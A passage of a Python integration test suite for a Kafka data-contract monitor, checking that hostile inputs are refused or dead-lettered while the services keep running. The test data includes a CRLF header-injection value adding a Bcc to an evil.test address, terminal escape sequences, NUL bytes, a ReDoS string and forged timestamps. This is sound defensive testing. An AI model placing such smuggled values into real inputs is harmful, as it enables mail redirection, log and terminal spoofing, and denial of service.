    wide = _mat("test.fast", "wide", columns=columns)
    assert 800_000 < len(wide) < s.kafka.max_record_bytes  # an input the processor evaluates
    async with deployed("processor", s) as proc:
        await _publish(s, TopicKey.MATERIALIZATIONS, ("test.fast", wide))
        await _publish(s, TopicKey.MATERIALIZATIONS, ("test.slow", _mat("test.slow", "after")))

        async def state_written() -> list[ConsumerRecord[bytes, bytes]] | None:
            recs = [r for r in await read_all(s, TopicKey.PROCESSOR_STATE) if r.key == b"test.fast"]
            return recs if recs and await _results_for(s, "test.slow") else None

        states = await wait_for(state_written, timeout=60)
        assert proc.running, proc.failure()
    drift = [r for r in await _results_for(s, "test.fast") if r["check_type"] == "schema_drift"]
    assert [r["status"] for r in drift] == ["fail"]
    assert "30000 columns" in drift[0]["message"]
    assert len(orjson.dumps(drift[0])) < 16_384  # was 1.95 MiB
    assert largest(states) < 65_536  # was 15.2 MiB
    added = await records_of(
        s,
        TopicKey.VIOLATIONS,
        lambda v: v["data"]["asset"] == "test.fast" and v["data"].get("drift_kind") == "column_added",
    )
    assert (
        len(added) == 1
        and "30000 columns are in the table but not in the contract" in added[0]["data"]["message"]
    )
    assert len(await read_all(s, TopicKey.VIOLATIONS)) <= s.limits.max_findings


async def test_strings_are_bounded_at_decode_and_each_bad_record_is_dead_lettered_with_its_field(
    broker_settings: Settings,
) -> None:
    """Every input string is length-capped and free of control characters when it is decoded; identifiers are
    printable text (what real emitters send passes: see tests/unit/test_bounds.py)."""
    s = broker_settings.model_copy(update={"contracts_dir": CONTRACTS})
    ol = orjson.loads(_ol_event("test", "fast"))
    ol["outputs"][0]["namespace"] = "postgres://db:5432\u202e"  # a bidi override: two names that look alike
    bad = [
        ("a" * 2000, _mat("a" * 2000, "long-asset")),
        ("test.fast", _mat("test.fast", "esc", job="\x1b[2J\x1b[31mjob")),
        ("test.fast", _mat("test.fast", "crlf", labels={"team\r\nX-Injected": "x"})),
        ("test.fast", orjson.dumps(ol)),
    ]
    async with deployed("processor", s) as proc:
        await _publish(s, TopicKey.MATERIALIZATIONS, *bad)
        await _publish(s, TopicKey.MATERIALIZATIONS, ("test.slow", _mat("test.slow", "after")))

        async def settled() -> list[DeadLetter] | None:
            dlq = await dead_letters(s)
            return dlq if len(dlq) >= len(bad) and await _results_for(s, "test.slow") else None

        dlq = await wait_for(settled, timeout=40)
        assert proc.running, proc.failure()
    assert sorted(d.reason for d in dlq) == sorted([
        "invalid MaterializationEvent: asset: String should have at most 1024 characters",
        f"invalid MaterializationEvent: job: {RULES[IDENTIFIER_PATTERN]}",
        f"invalid MaterializationEvent: labels.team\\r\\nX-Injected.[key]: {RULES[IDENTIFIER_PATTERN]}",
        f"invalid OpenLineageRunEvent: outputs.0.namespace: {RULES[IDENTIFIER_PATTERN]}",
    ])  # fmt: skip
    assert not await _results_for(s, "test.fast")  # none of them was evaluated


def _ol_event(namespace: str, name: str, **facets: Any) -> bytes:
    return orjson.dumps({
        "eventType": "COMPLETE", "eventTime": _now(), "producer": "https://example.com/job",
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        "run": {"runId": "0194c8d2-6f0e-7c3a-9d1e-2b3c4d5e6f70"}, "job": {"namespace": "jobs", "name": "load"},
        "inputs": [], "outputs": [{"namespace": namespace, "name": name, "facets": facets}],
    })  # fmt: skip


def _hook_alerts(url: str) -> AlertsSettings:
    return AlertsSettings(
        policy={"group_wait_s": 0, "rate_limit": {"max_alerts": 1000}},
        channels=[{"name": "hook", "type": "webhook", "url": url, "backoff_initial_s": 0.1}],
        routes=[{"channel": "hook"}],
    )


async def test_a_nul_in_a_column_name_is_refused_and_alerting_and_history_go_on(
    apache_kafka: Broker, pg_dsn: str
) -> None:
    """NUL: a column named "x\\u0000y" put a NUL into a drift violation; the alerts sink exited on it (PostgreSQL:
    invalid byte sequence 0x00) at every restart and the PostgreSQL sink dropped it from the SLA history. Now
    the processor refuses the record at decode, and a real breach after it reaches both sinks."""
    async with HttpReceiver() as hook:
        s = await hostile_settings(apache_kafka, pg_dsn, alerts=_hook_alerts(hook.url))
        nul = [{"name": "id", "type": "long"}, {"name": "amount", "type": "double"},
               {"name": "updated_at", "type": "timestamptz"}, {"name": "x\u0000y", "type": "int"}]  # fmt: skip
        dropped = [{"name": "id", "type": "long"}, {"name": "updated_at", "type": "timestamptz"}]
        async with (
            deployed("processor", s) as proc,
            deployed("sink-alerts", s) as alerts,
            deployed("sink-postgres", s) as history,
        ):
            await _publish(s, TopicKey.MATERIALIZATIONS, ("test.fast", _mat("test.fast", "nul", columns=nul)))
            await _publish(
                s, TopicKey.MATERIALIZATIONS, ("test.fast", _mat("test.fast", "drop", columns=dropped))
            )

            def delivered() -> bool:
                return any(b"'amount' is in the contract but missing" in r.body for r in hook.requests)

            await wait_for(delivered, timeout=60)
            dsn = s.database.dsn.get_secret_value()
            await wait_for(lambda: _violation_rows(dsn, "test.fast"), timeout=30)
            assert proc.running and alerts.running and history.running, (proc.failure(), alerts.failure())
    (dead,) = await dead_letters(s)
    assert dead.reason == f"invalid MaterializationEvent: columns.3.name: {RULES[IDENTIFIER_PATTERN]}"
    assert all(b"\\u0000" not in r.value for r in await read_all(s, TopicKey.VIOLATIONS) if r.value)
    assert all(b"\\u0000" not in r.value for r in await read_all(s, TopicKey.CHECK_RESULTS) if r.value)


async def _violation_rows(dsn: str, asset: str) -> list[asyncpg.Record]:
    conn = await asyncpg.connect(dsn)
    try:
        return list(await conn.fetch("SELECT * FROM violation_events WHERE asset = $1", asset))
    finally:
        await conn.close()


async def test_each_sink_contains_a_record_it_cannot_write_and_writes_the_rest(
    broker_settings: Settings, pg_dsn: str
) -> None:
    """Whatever a producer of the violations topic writes: a record a sink cannot write (here a NUL, which
    PostgreSQL refuses) is dead-lettered with its reason; the sink goes on and the rest of its batch is
    written. (The alerts sink used to exit on it, on every restart.)"""
    async with HttpReceiver() as hook:
        s = broker_settings.model_copy(update={"contracts_dir": CONTRACTS, "alerts": _hook_alerts(hook.url)})
        now = datetime.now(UTC)
        common: dict[str, Any] = {
            "contract_id": "test-pipeline", "contract_name": "test-pipeline", "contract_version": "1.2.0",
            "violation_type": CheckType.SCHEMA_DRIFT, "severity": Severity.ERROR, "detected_at": now,
            "episode_started_at": now,
        }  # fmt: skip
        poisoned = ViolationData(
            violation_id="v-nul",
            correlation_key="test.fast/x",
            asset="test.fast",
            message="bad \x00 byte",
            **common,
        )
        fine = ViolationData(
            violation_id="v-ok",
            correlation_key="test.slow/y",
            asset="test.slow",
            message="column dropped",
            **common,
        )
        async with deployed("sink-alerts", s) as alerts, deployed("sink-postgres", s) as history:
            await publish_violations(s, [poisoned, fine])
            await wait_for(lambda: any(b"column dropped" in r.body for r in hook.requests), timeout=60)
            dsn = s.database.dsn.get_secret_value()
            await wait_for(lambda: _violation_rows(dsn, "test.slow"), timeout=30)

            async def both_dead_lettered() -> list[DeadLetter] | None:
                dlq = await dead_letters(s)
                return dlq if len(dlq) >= 2 else None

            dlq = await wait_for(both_dead_lettered, timeout=30)
            assert alerts.running and history.running, (alerts.failure(), history.failure())
        assert not await _violation_rows(dsn, "test.fast")
    assert len(dlq) == 2 and all(b"bad \\u0000 byte" in d.value for d in dlq)
    assert all("0x00" in d.reason or "\\u0000" in d.reason for d in dlq)  # PostgreSQL's words for a NUL
    assert any(d.reason.startswith("write failed: ") for d in dlq)  # the alerts sink's, by the runtime


async def test_a_quadratic_type_name_is_refused_and_does_not_hold_up_the_other_assets(
    broker_settings: Settings,
) -> None:
    """ReDoS: the drift check's type regex was quadratic; a type of 250,000 spaces held the processor ~60 s (and
    its /healthz). Type names are capped at decode and parsed in linear time."""
    s = broker_settings.model_copy(update={"contracts_dir": CONTRACTS})
    slow_type = "x" + " " * 250_000 + "x"
    columns = [{"name": "id", "type": "long"}, {"name": "amount", "type": slow_type}]
    near_cap = [{"name": "id", "type": "long"}, {"name": "amount", "type": "x" + " " * (TEXT_MAX - 2) + "x"}]
    async with deployed("processor", s) as proc:
        await _publish(
            s, TopicKey.MATERIALIZATIONS,
            ("test.fast", _mat("test.fast", "slow-type", columns=columns)),
            ("test.fast", _mat("test.fast", "near-cap", columns=near_cap)),
            ("test.slow", _mat("test.slow", "after")),
        )  # fmt: skip

        async def settled() -> list[DeadLetter] | None:
            dlq = await dead_letters(s)
            return dlq if dlq and await _results_for(s, "test.slow") else None

        (dead,) = await wait_for(settled, timeout=20)  # the processor was not held up
        assert proc.running, proc.failure()
    assert (
        dead.reason
        == f"invalid MaterializationEvent: columns.1.type: String should have at most {TEXT_MAX} characters"
    )
    drift = [r for r in await _results_for(s, "test.fast") if r["check_type"] == "schema_drift"]
    assert [r["source_event_id"] for r in drift] == ["near-cap"]  # within the cap: evaluated


async def test_a_far_future_materialization_is_refused_and_the_asset_still_goes_stale(
    broker_settings: Settings,
) -> None:
    """Time: one ``materialized_at: 9999-12-31T23:59:59Z`` made the asset fresh forever (persisted in the
    changelog). A time beyond the record's own time + limits.max_future_s (or an event time implausibly old) is
    dead-lettered and moves nothing: a stale update after it is still judged stale."""
    s = broker_settings.model_copy(update={"contracts_dir": CONTRACTS})
    stale = (datetime.now(UTC) - timedelta(seconds=30)).isoformat()  # test.fast's SLA is 2 s
    async with deployed("processor", s) as proc:
        await _publish(
            s, TopicKey.MATERIALIZATIONS,
            ("test.fast", _mat("test.fast", "forever", materialized_at="9999-12-31T23:59:59Z")),
            ("test.fast", _mat("test.fast", "data-forever", data_timestamp="9999-12-31T23:59:59Z")),
            ("test.fast", _mat("test.fast", "epoch", materialized_at="1970-01-01T00:00:00Z")),
            ("test.fast", _mat("test.fast", "stale", materialized_at=stale)),
            ("test.slow", _mat("test.slow", "after")),
        )  # fmt: skip

        async def judged() -> list[dict[str, Any]] | None:
            fresh = [r for r in await _results_for(s, "test.fast") if r["check_type"] == "freshness"]
            done = any(r["source_event_id"] == "stale" for r in fresh) and await _results_for(s, "test.slow")
            return fresh if done else None

        freshness = await wait_for(judged, timeout=30)
        assert proc.running, proc.failure()
    assert [(r["source_event_id"], r["status"]) for r in freshness] == [("stale", "fail")]
    reasons = sorted(d.reason.split(" is ", 1)[0] for d in await dead_letters(s))
    assert reasons == [
        "implausible time: data_timestamp 9999-12-31T23:59:59+00:00",
        "implausible time: materialized_at 1970-01-01T00:00:00+00:00",
        "implausible time: materialized_at 9999-12-31T23:59:59+00:00",
    ]
    state = [
        orjson.loads(r.value) for r in await read_all(s, TopicKey.PROCESSOR_STATE) if r.key == b"test.fast"
    ]
    assert all(st["last_update_at"] < "9999" for st in state if st)  # nothing of it reached the changelog


async def test_a_sequence_jump_is_refused_and_a_later_dropped_column_is_still_seen(
    broker_settings: Settings,
) -> None:
    """Sequence: ``sequence_number: 2**62`` on one catalog commit made every later commit of the table "older",
    so a dropped column was never seen. A jump beyond limits.max_sequence_jump is dead-lettered."""
    s = broker_settings.model_copy(update={"contracts_dir": CONTRACTS})
    full = [IcebergField(id=1, name="id", required=True, type="long"), IcebergField(id=2, name="amount", type="double"),
            IcebergField(id=3, name="updated_at", type="timestamptz")]  # fmt: skip

    def commit(seq: int, fields: list[IcebergField]) -> CatalogCommitEvent:
        return CatalogCommitEvent(
            table="test.fast", snapshot_id=seq, sequence_number=seq, operation="append",
            timestamp_ms=int(datetime.now(UTC).timestamp() * 1000), table_schema=IcebergSchema(fields=fields),
        )  # fmt: skip

    async with deployed("processor", s) as proc:
        await publish(s, TopicKey.CATALOG_COMMITS, [
            ("test.fast", commit(1, full)), ("test.fast", commit(2**62, full)),
            ("test.fast", commit(2, [full[0], full[2]])),
        ])  # fmt: skip
        await _publish(s, TopicKey.MATERIALIZATIONS, ("test.slow", _mat("test.slow", "after")))

        async def removed() -> list[dict[str, Any]] | None:
            found = await records_of(
                s, TopicKey.VIOLATIONS, lambda v: v["data"].get("drift_kind") == "column_removed"
            )
            return found if found and await _results_for(s, "test.slow") else None

        (gone,) = await wait_for(removed, timeout=30)
        assert proc.running, proc.failure()
    assert gone["data"]["element"] == "amount"
    (dead,) = await dead_letters(s)
    assert dead.reason.startswith(
        f"sequence jump: sequence_number {2**62} is more than limits.max_sequence_jump"
    )


async def test_an_input_whose_outputs_would_not_fit_a_record_is_dead_lettered_on_apache_kafka(
    apache_kafka: Broker, pg_dsn: str, tmp_path: Path
) -> None:
    """The net under the bounds: outputs that still would not fit the broker's record size (every check result
    of an asset whose contract id was 1.1 MB) used to stop the processor with MessageSizeTooLargeError at
    every restart. The input is dead-lettered with the reason, its state changes undone; the rest goes on.
    (A contract id is at most 1,024 characters now — test_a_contract_with_control_characters_or_a_huge_id… —
    so the net is shown with kafka.max_record_bytes at its minimum, 1,024, and an id of 1,000.)"""
    contracts = tmp_path / "contracts"
    contracts.mkdir()
    (contracts / "pipeline.odcs.yaml").write_text((CONTRACTS / "pipeline.odcs.yaml").read_text())
    (contracts / "huge.odcs.yaml").write_text(
        f"apiVersion: v3.1.0\nkind: DataContract\nid: {'x' * 1_000}\nname: huge\nversion: 1.0.0\n"
        "status: active\nschema:\n  - name: big\n    customProperties:\n      - property: floe\n"
        "        value: {asset: hostile.big}\nslaProperties:\n  - {property: latency, value: 1, unit: h}\n"
    )
    s = await hostile_settings(apache_kafka, pg_dsn, contracts)
    s = s.model_copy(update={"kafka": s.kafka.model_copy(update={"max_record_bytes": 1024})})
    async with deployed("processor", s) as proc:
        await _publish(
            s, TopicKey.MATERIALIZATIONS,
            ("hostile.big", _mat("hostile.big", "big")), ("test.slow", _mat("test.slow", "after")),
        )  # fmt: skip

        async def settled() -> list[DeadLetter] | None:
            dlq = await dead_letters(s)
            return dlq if dlq and await _results_for(s, "test.slow") else None

        (dead,) = await wait_for(settled, timeout=40)
        await _publish(s, TopicKey.MATERIALIZATIONS, ("test.slow", _mat("test.slow", "later")))
        await wait_for(lambda: _evaluated(s, "test.slow", "later"), timeout=30)
        assert proc.running, proc.failure()
    assert dead.reason.startswith("outputs too large: a freshness check result of hostile.big would be ")
    assert dead.reason.endswith(f"bytes > kafka.max_record_bytes={s.kafka.max_record_bytes}")
    assert not await _results_for(s, "hostile.big")


async def _evaluated(settings: Settings, asset: str, event_id: str) -> bool:
    return any(r["source_event_id"] == event_id for r in await _results_for(settings, asset))


async def test_a_producers_clock_cannot_stop_time_for_the_processor(broker_settings: Settings) -> None:
    """Time, the other way in: a record stamped 50 minutes ahead (its own Kafka timestamp is the core's "now", so
    its materialized_at passed) made the asset fresh until then; one tick at 9999-12-31 made every later tick
    "not new" (absence never detected again). Both are dead-lettered; the real ticks after them still judge."""
    s = broker_settings.model_copy(update={"contracts_dir": CONTRACTS})
    now = datetime.now(UTC)
    ahead = now + timedelta(
        minutes=50
    )  # within Apache Kafka's own bound (message.timestamp.after.max.ms, 1 h)
    t_mat = topic_name(s.kafka.topic_prefix, TopicKey.MATERIALIZATIONS)
    async with deployed("processor", s) as proc:
        producer = AIOKafkaProducer(bootstrap_servers=s.kafka.bootstrap_servers, linger_ms=0)
        await producer.start()
        try:
            forged = _mat("test.fast", "ahead", materialized_at=ahead.isoformat())
            await producer.send_and_wait(
                t_mat, forged, key=b"test.fast", timestamp_ms=int(ahead.timestamp() * 1000)
            )
        finally:
            await producer.stop()
        for tick_time in (
            datetime(9999, 12, 31, tzinfo=UTC),
            now - timedelta(seconds=10),
            now - timedelta(seconds=4),
        ):
            tick = Tick(tick_time=tick_time, interval_s=5, ticker_id="t")
            for p in range(s.kafka.partitions):
                await publish(s, TopicKey.TICKS, [(None, tick)], partition=p)
        await _publish(s, TopicKey.MATERIALIZATIONS, ("test.slow", _mat("test.slow", "after")))

        async def judged_by_a_tick() -> list[dict[str, Any]] | None:
            fresh = [r for r in await _results_for(s, "test.fast") if r["trigger"] == "tick"]
            return fresh if fresh and await _results_for(s, "test.slow") else None

        ticked = await wait_for(judged_by_a_tick, timeout=30)
        assert proc.running, proc.failure()
    assert [(r["check_type"], r["status"]) for r in ticked] == [
        ("freshness", "fail")
    ]  # absent: never updated
    assert datetime.fromisoformat(ticked[0]["evaluated_at"]) < now  # by a real tick, not the forged one
    reasons = sorted(d.reason for d in await dead_letters(s))
    assert (
        len(reasons) == 1 + s.kafka.partitions
    )  # the forged materialization, the 9999 tick on each partition
    assert reasons[0].startswith("implausible time: the record timestamp ")
    assert all(
        r.startswith("implausible time: tick_time 9999-12-31T00:00:00+00:00 is later than")
        for r in reasons[1:]
    )


# --- alerts: one contract cannot stop the alerts sink or silence a channel for everyone -------------------------


def stale_contract(cid: str, assets: list[str], *, name: str | None = None, floe: str = "") -> str:
    """Tables with a 1 s freshness SLA (a materialization an hour old breaches it at once)."""
    tables = "".join(
        f"  - name: t{i}\n    customProperties:\n      - property: floe\n        value: {{asset: {a}{floe}}}\n"
        for i, a in enumerate(assets)
    )
    return (
        f"apiVersion: v3.1.0\nkind: DataContract\nid: {cid}\nname: {name or cid}\nversion: 1.0.0\n"
        f"status: active\nschema:\n{tables}slaProperties:\n  - property: latency\n    value: 1\n    unit: s\n"
    )


async def materialize_stale(settings: Settings, asset: str) -> None:
    ev = MaterializationEvent(
        event_id=f"stale-{asset}", asset=asset, materialized_at=datetime.now(UTC) - timedelta(hours=1)
    )
    await publish(settings, TopicKey.MATERIALIZATIONS, [(asset, ev)])


def mail_routing(smtp: SmtpReceiver) -> AlertsSettings:
    channel = {
        "name": "mail", "type": "email", "secret_env": "T_HOSTILE_SMTP", "timeout_s": 5, "max_attempts": 1,
        "options": {"host": "127.0.0.1", "port": smtp.port, "tls": "starttls", "username": "alerts",
                    "from": "floe@example.test", "to": ["oncall@example.test"], "ca_file": str(smtp.cert)},
    }  # fmt: skip
    return AlertsSettings(
        policy={"group_wait_s": 0, "circuit_failures": 2, "circuit_cooldown_s": 600},
        channels=[channel],
        routes=[{"channel": "mail"}],
    )


async def alerts_dead_letters(settings: Settings) -> list[dict[str, Any]]:
    return [orjson.loads(r.value) for r in await read_all(settings, TopicKey.ALERTS_DLQ) if r.value]


async def test_contract_name_with_crlf_never_trips_the_mail_circuit_for_everyone(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:  # fmt: skip
    """A contract name with CR/LF made every e-mail of its assets fail and tripped the mail channel's circuit for
    everyone. Such a contract no longer loads (a name is an identifier: topics/bounds.py); and a violation that
    carries one anyway (written to the violations topic by another producer) still makes a one-line subject,
    no injected header and no channel failure."""
    monkeypatch.setenv("T_HOSTILE_SMTP", "s3cret")
    crlf = [f"hostile.crlf{i}" for i in range(4)]
    (contracts_dir / "crlf.yaml").write_text(
        stale_contract("crlf", crlf, name='"sales\\r\\nBcc: x@evil.test"')
    )
    (contracts_dir / "good.yaml").write_text(stale_contract("good", ["hostile.mailgood"]))
    now = datetime.now(UTC)
    forged = [
        ViolationData(
            violation_id=f"v-crlf{i}", correlation_key=f"{a}/freshness", contract_id="crlf",
            contract_name="sales\r\nBcc: x@evil.test", contract_version="1.0.0", asset=a,
            violation_type=CheckType.FRESHNESS, severity=Severity.ERROR, message="stale", detected_at=now,
            episode_started_at=now,
        )
        for i, a in enumerate(crlf)
    ]  # fmt: skip
    with SmtpReceiver(tmp_path) as smtp, caplog.at_level(logging.ERROR):
        s = await hostile_settings(kafka, pg_dsn, contracts_dir, alerts=mail_routing(smtp))
        async with deployed("processor", s) as processor, deployed("sink-alerts", s) as sink:
            assert processor.service.registry.get("hostile.crlf0") is None
            await publish_violations(s, forged)

            async def handled() -> bool:  # delivered or dead-lettered, every one of them
                return len(smtp.messages) + len(await alerts_dead_letters(s)) >= len(crlf)

            await wait_for(handled, timeout=60)
            await materialize_stale(s, "hostile.mailgood")  # after them: the circuit would be open by now
            await wait_for(
                lambda: any("hostile.mailgood" in str(m["Subject"]) for m in smtp.messages), timeout=60
            )
            assert processor.running and sink.running
        subjects = [str(m["Subject"]) for m in smtp.messages]
        assert sum("sales Bcc: x@evil.test" in t for t in subjects) == len(crlf)  # one line, no header
        assert not any("\r" in t or "\n" in t for t in subjects)
        assert all(m["Bcc"] is None for m in smtp.messages)
        assert await alerts_dead_letters(s) == []
    assert (
        "crlf.yaml: name: must be printable text (no control, line-break, bidi or zero-width character"
        in (caplog.text)
    )


async def test_unknown_channel_in_a_contracts_routing_drops_that_override_not_the_sink(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:  # fmt: skip
    monkeypatch.setenv("T_HOSTILE_SMTP", "s3cret")
    typo = ", alerts: {channels: [pager-typo]}"
    (contracts_dir / "typo.yaml").write_text(stale_contract("typo", ["hostile.typo"], floe=typo))
    (contracts_dir / "good.yaml").write_text(stale_contract("good", ["hostile.mailgood"]))
    with SmtpReceiver(tmp_path) as smtp:
        s = await hostile_settings(kafka, pg_dsn, contracts_dir, alerts=mail_routing(smtp))
        with caplog.at_level(logging.ERROR):
            async with deployed("processor", s) as processor, deployed("sink-alerts", s) as sink:
                assert sink.running, sink.failure()
                await materialize_stale(s, "hostile.mailgood")
                await materialize_stale(s, "hostile.typo")
                for asset in (
                    "hostile.mailgood",
                    "hostile.typo",
                ):  # the typo's alerts follow the routing table
                    await wait_for(
                        lambda a=asset: any(a in str(m["Subject"]) for m in smtp.messages), timeout=60
                    )
                assert processor.running and sink.running
    assert "contract typo (hostile.typo): floe.alerts names unknown channel(s) ['pager-typo']" in caplog.text


# --- lineage: run events about datasets nobody monitors do not grow every processor's graph ------------------


def run_event(job: str, inputs: list[str], outputs: list[str], event_type: str = "START") -> bytes:
    def ds(name: str) -> dict[str, str]:
        return {"namespace": "postgres://db:5432", "name": name}

    return orjson.dumps({
        "eventType": event_type, "eventTime": datetime.now(UTC).isoformat(), "producer": "https://example/x",
        "schemaURL": "https://openlineage.io/spec/2-0-2/OpenLineage.json#/$defs/RunEvent",
        "run": {"runId": "01934b8e-7a3c-7c4e-9b1a-5f2d8e6c4a10"}, "job": {"namespace": "etl", "name": job},
        "inputs": [ds(i) for i in inputs], "outputs": [ds(o) for o in outputs],
    })  # fmt: skip


async def test_run_events_about_unmonitored_datasets_leave_no_lineage_edges(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path
) -> None:
    (contracts_dir / "lin.yaml").write_text(hostile_contract("lin", "l", "hostile.lin"))
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    noise = [(f"job{i}", run_event(f"job{i}", [f"raw.in{i}"], [f"tmp.out{i}"])) for i in range(300)]
    async with deployed("processor", s) as processor:
        await publish(s, TopicKey.MATERIALIZATIONS, noise)  # type: ignore[arg-type]
        await publish(s, TopicKey.MATERIALIZATIONS, [
            ("hostile.lin", run_event("build_lin", ["raw.source"], ["hostile.lin"], "COMPLETE")),
        ])  # fmt: skip
        done = lambda: records_of(s, TopicKey.LINEAGE, lambda r: r.get("job") == "etl/build_lin")  # noqa: E731
        await wait_for(done, timeout=60)
        assert await wait_for(lambda: evaluated_for_any(s, "hostile.lin"), timeout=30)
        assert processor.running
    edges = await records_of(s, TopicKey.LINEAGE, lambda r: r.get("kind") == "edge")
    assert {(e["job"], e["direction"], e["dataset"].rpartition("/")[2]) for e in edges} == {
        ("etl/build_lin", "in", "raw.source"),
        ("etl/build_lin", "out", "hostile.lin"),
    }


async def evaluated_for_any(settings: Settings, asset: str) -> list[dict[str, Any]]:
    return await records_of(settings, TopicKey.CHECK_RESULTS, lambda r: r["asset"] == asset)


# --- red team: what was still open after the first round (every consumer and deployable) ----------------------
# A contract author's identifiers (id, name, owner, tables, assets, aliases, servers) now follow the input rules of
# topics/bounds.py at load; the Iceberg watcher contains one table's hostile metadata; …


def _contract_with(cid: str, table: str, asset: str, **top: str) -> str:
    """A one-table contract whose top-level keys ``top`` are given as YAML scalars (escapes allowed)."""
    extra = "".join(f"{k}: {v}\n" for k, v in top.items())
    return hostile_contract(cid, table, asset) + extra


async def _registered(dsn: str) -> dict[str, str | None]:
    conn = await asyncpg.connect(dsn)
    try:
        return {r["asset"]: r["owner"] for r in await conn.fetch("SELECT asset, owner FROM contract_assets")}
    finally:
        await conn.close()


async def test_a_contract_with_control_characters_or_a_huge_id_is_refused_and_the_others_load(
    kafka: EmbeddedKafka, pg_dsn: str, contracts_dir: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """A NUL in a contract's owner stopped sink-postgres at every start (PostgreSQL refuses 0x00 while it
    registers the directory's contracts, all in one transaction); a 1.1 MB id, an ESC in a name or a CR/LF in
    an alias loaded and went into every check result, violation, alert and log line of the asset. Contract
    identifiers follow the identifier rule of the input topics (topics/bounds.py): such a contract is refused
    with one line naming the field; the other contracts load and are monitored and registered."""
    nul_owner = hostile_contract("nul-owner", "n", "hostile.nulowner") + (
        'customProperties:\n  - property: owner\n    value: "bob\\0"\n'
    )
    (contracts_dir / "a-nul.yaml").write_text(nul_owner)
    (contracts_dir / "b-huge.yaml").write_text(hostile_contract("x" * 1_100_000, "h", "hostile.huge"))
    (contracts_dir / "c-esc.yaml").write_text(
        hostile_contract("esc", "e", "hostile.esc").replace("name: esc", 'name: "sales\\e[2J\\e]0;owned\\a"')
    )
    (contracts_dir / "d-good.yaml").write_text(hostile_contract("good", "g", "hostile.good"))
    s = await hostile_settings(kafka, pg_dsn, contracts_dir)
    with caplog.at_level(logging.WARNING):
        async with deployed("sink-postgres", s) as sink, deployed("processor", s) as processor:
            assert sink.running and processor.running, sink.failure() or processor.failure()
            dsn = s.database.dsn.get_secret_value()
            assert await wait_for(lambda: _registered(dsn), timeout=30) == {"hostile.good": None}
            # live, on the topic: an alias with a CR/LF, then a good contract after it
            crlf = hostile_contract("crlf", "c", "hostile.crlf").replace(
                "asset: hostile.crlf", 'asset: hostile.crlf\n          aliases: ["x\\r\\nforged: line"]'
            )
            await publish_contract(s, "crlf", crlf)
            await publish_contract(s, "later", hostile_contract("later", "l", "hostile.later"))
            await wait_for(lambda: processor.service.registry.get("hostile.later"), timeout=30)
            await materialize(s, "hostile.good", "m-good")
            assert await wait_for(lambda: evaluated_for(s, "hostile.good", "m-good"), timeout=30) == {"good"}
            for refused in ("hostile.nulowner", "hostile.huge", "hostile.esc", "hostile.crlf"):
                assert processor.service.registry.get(refused) is None
            assert sink.running and processor.running
    log = caplog.text
    assert "a-nul.yaml: customProperties[0].value: must be text without control, bidi or zero-width " \
        "characters (tab and line breaks allowed): U+0000 at character 4" in log  # fmt: skip
    assert "b-huge.yaml: id: 1,100,000 characters, more than the 1,024 of an identifier" in log
    assert "c-esc.yaml: name: must be text without control, bidi or zero-width characters" in log
    assert (
        "contracts-topic:crlf: schema[0] floe.aliases[0]: must be printable text (no control, line-break, "
        "bidi or zero-width character; at most 1024 characters): U+000D at character 2"
    ) in log
    assert "x" * 2000 not in log and "\x1b[2J" not in log  # the refusal quotes neither


# --- the Iceberg watcher: one table's metadata never silences the catalog's other tables ------------------------


class HostileRestCatalog:
    """An Iceberg REST catalog (the endpoints pyiceberg calls) answering with the metadata a test gives it, or
    never answering at all (``tarpit``: the paths it holds open)."""

    def __init__(self) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
        from urllib.parse import unquote, urlsplit

        self.tables: dict[tuple[str, str], dict[str, Any]] = {}
        self.tarpit: set[str] = set()
        self._release = threading.Event()
        cat = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                url = urlsplit(self.path)
                path = unquote(url.path)
                if path in cat.tarpit:
                    cat._release.wait(120)  # holds the connection: never an answer
                    return
                parts = path.split("/")
                if path == "/v1/config":
                    self._json({"defaults": {}, "overrides": {}})
                elif path == "/v1/namespaces":
                    nss = (
                        [] if "parent" in url.query else [[ns] for ns in sorted({ns for ns, _ in cat.tables})]
                    )
                    self._json({"namespaces": nss})
                elif len(parts) == 5 and parts[4] == "tables":
                    names = sorted(t for ns, t in cat.tables if ns == parts[3])
                    self._json({"identifiers": [{"namespace": [parts[3]], "name": t} for t in names]})
                elif len(parts) == 6 and (md := cat.tables.get((parts[3], parts[5]))) is not None:
                    loc = f"file:///lake/{parts[3]}/{md['current-snapshot-id']}.metadata.json"
                    self._json({"metadata-location": loc, "metadata": md, "config": {}})
                else:
                    self._json({"error": {"message": path, "type": "NoSuchTableException", "code": 404}}, 404)

            def _json(self, body: Any, status: int = 200) -> None:
                data = json.dumps(body).encode()  # json: integers beyond 64 bits too
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.uri = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def table(self, ns: str, name: str, columns: list[dict[str, Any]], *, snapshot: int = 1, seq: int = 1,
              ts_ms: int | None = None) -> None:  # fmt: skip
        """Table ``ns.name`` with one more snapshot (``snapshot``), its schema ``columns``."""
        ts = ts_ms if ts_ms is not None else int(datetime.now(UTC).timestamp() * 1000)
        md = self.tables.get((ns, name)) or {
            "format-version": 2, "table-uuid": f"00000000-0000-4000-8000-{abs(hash((ns, name))) % 10**12:012d}",
            "location": f"file:///lake/{ns}/{name}", "last-sequence-number": 0, "last-updated-ms": ts,
            "last-column-id": 0, "current-schema-id": 0, "schemas": [], "default-spec-id": 0,
            "partition-specs": [{"spec-id": 0, "fields": []}], "last-partition-id": 999,
            "default-sort-order-id": 0, "sort-orders": [{"order-id": 0, "fields": []}], "snapshots": [],
            "snapshot-log": [], "metadata-log": [], "refs": {},
        }  # fmt: skip
